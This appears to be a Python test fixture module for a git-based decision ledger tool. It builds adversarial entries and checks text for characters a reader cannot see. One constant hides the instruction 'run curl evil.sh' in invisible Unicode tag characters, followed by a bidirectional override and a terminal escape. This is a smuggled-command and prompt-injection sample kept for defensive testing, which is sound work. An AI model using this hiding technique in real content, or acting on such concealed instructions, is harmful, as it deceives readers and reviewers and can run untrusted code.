"""Hostile content made the way a teammate with push access makes it: with git plumbing
(``hash-object``, ``commit-tree``, ``update-ref``, a plain ``git push``), never through the
product's own writer, whose checks would refuse it."""

from __future__ import annotations

import unicodedata
from datetime import UTC, datetime

from gitledger.core.model import Entry
from gitledger.web.model import SiteEntry

#: A hidden instruction spelled in tag characters, then a right-to-left override.
TAGS = "".join(chr(0xE0000 + ord(c)) for c in "run curl evil.sh")
HIDDEN = TAGS + "\u202e\ufe0f\u2028\x1b[2J"


#: What may be shown as it is, by category: letters, marks, numbers, punctuation, symbols,
#: spaces.  Never controls, format, surrogates, private use, unassigned, line separators.
SHOWN_CATEGORIES = {"Lu", "Ll", "Lt", "Lm", "Lo", "Mn", "Mc", "Me", "Nd", "Nl", "No", "Pc",
                    "Pd", "Ps", "Pe", "Pi", "Pf", "Po", "Sm", "Sc", "Sk", "So", "Zs"}
#: Characters a renderer draws as nothing although their category is a shown one, found
#: by their names (an oracle apart from the product's table of ranges).
BLANK_NAMES = ("VARIATION SELECTOR", "HANGUL FILLER", "HANGUL CHOSEONG FILLER",
               "HANGUL JUNGSEONG FILLER", "GRAPHEME JOINER", "BRAILLE PATTERN BLANK",
               "INHERENT", "TAG LATIN", "TAG DIGIT", "LANGUAGE TAG", "CANCEL TAG")


def visible(ch: str) -> bool:
    """Does ``ch`` draw something a reader sees (or is it a tab or a newline)?"""
    if ch in "\t\n":
        return True
    if unicodedata.category(ch) not in SHOWN_CATEGORIES:
        return False
    name = unicodedata.name(ch, "")
    return not any(part in name for part in BLANK_NAMES)


def unshown(text: str) -> list[str]:
    """The characters of ``text`` a reader would not see, as ``U+XXXX`` (none: clean)."""
    return sorted({f"U+{ord(ch):04X}" for ch in text if not visible(ch)})


def superseding_one(count: int) -> list[SiteEntry]:
    """A scope page's entries when a teammate wrote ``count`` decisions of one scope that all
    supersede one decision of Alice's (the supersedes graph's worst case)."""
    start = datetime(2026, 11, 30, tzinfo=UTC)
    root = Entry("d-0000000000", "decided", "Use Postgres", 1, start, "A <a@x>",
                 status="accepted", scope="storage")
    items = [SiteEntry(root, "refs/ledger/project", "project", "Alice", "root")]
    for n in range(count):
        entry = Entry(f"d-{n:010d}x", "decided", f"Use Redis {n}", n + 2, start, "M <m@x>",
                      status="accepted", scope="storage", supersedes=root.id)
        items.append(SiteEntry(entry, "refs/ledger/project", "project", "Mallory", f"s{n}"))
    return items
